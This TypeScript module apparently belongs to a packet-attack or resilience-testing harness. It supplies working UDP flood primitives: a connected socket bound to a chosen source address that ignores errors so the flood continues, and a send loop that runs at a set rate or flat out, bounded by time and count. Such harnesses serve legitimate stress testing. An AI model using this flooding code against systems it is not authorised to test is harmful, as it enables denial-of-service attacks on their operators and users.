// Shared pieces of the packet attacks: a connected UDP socket from the attacker's source, and a
// send loop that keeps a rate (or goes flat out), bounded by count and time.

import dgram from 'node:dgram';
import type { Target } from '../spec.ts';

export async function connectedUdp(t: Target): Promise<dgram.Socket> {
  const socket = dgram.createSocket({ type: 'udp4', sendBufferSize: 4 << 20, recvBufferSize: 4 << 20 });
  socket.on('error', () => {}); // ICMP port unreachable and friends: the flood goes on
  await new Promise<void>((resolve) => socket.bind(0, t.source, () => resolve()));
  await new Promise<void>((resolve) => socket.connect(t.port, t.host, () => resolve()));
  return socket;
}

/**
 * Calls send(k) for k = 0, 1, … at `rate` per second (Infinity: as fast as the loop turns, 256
 * per turn so replies are still read), until `durationS` or `max` sends. Resolves the count.
 */
export function pump(durationS: number, max: number, rate: number, send: (k: number) => void): Promise<number> {
  return new Promise((resolve) => {
    const start = performance.now();
    const end = start + durationS * 1000;
    let k = 0;
    const tick = (): void => {
      const now = performance.now();
      if (now >= end || k >= max) return resolve(k);
      const due = rate === Infinity ? k + 256 : Math.min(k + 1024, Math.floor(((now - start) / 1000) * rate));
      while (k < due && k < max) send(k++);
      if (rate === Infinity) setImmediate(tick);
      else setTimeout(tick, 1);
    };
    tick();
  });
}
